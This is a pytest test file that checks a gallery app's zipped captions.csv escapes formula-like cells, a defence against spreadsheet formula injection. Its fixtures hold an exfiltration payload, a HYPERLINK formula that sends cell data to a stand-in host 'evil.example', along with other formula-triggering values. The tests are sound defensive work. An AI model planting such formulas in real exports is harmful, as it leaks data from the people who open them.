"""captions.csv in gallery zips: cells a spreadsheet would run as formulas come out as text."""
from __future__ import annotations

import csv
import io
import zipfile

import pytest

from gallery import csvsafe
from gallery.services import terms


@pytest.fixture
def member(make_user, login_as):
    user = make_user("member")
    terms.accept(user)
    return login_as(user)


def test_formula_caption_is_escaped_in_the_zip(client, member, make_gallery, make_asset):
    g = make_gallery(title="Water in Turkana", credit="+Agency")
    make_asset(g, title="@SUM(A1)", caption='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
               creator="-Amina")
    make_asset(g, title="Plain", caption="Women collect water at a borehole - in Lodwar.")
    with client.get(f"/download/galleries/{g.id}.zip?size=preview") as r:
        assert r.status_code == 200
        data = r.data
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        rows = list(csv.reader(io.StringIO(zf.read("captions.csv").decode("utf-8-sig"))))
    assert rows[1][1:5] == ["'@SUM(A1)", '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
                            "'+Agency", "'-Amina"]
    # Text that merely contains the characters is left alone.
    assert rows[2][1:4] == ["Plain", "Women collect water at a borehole - in Lodwar.", "'+Agency"]


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("a=b", "a=b"), ("", ""), (None, ""), (3, 3),
])
def test_one_helper_for_every_csv(value, expected):
    assert csvsafe.cell(value) == expected
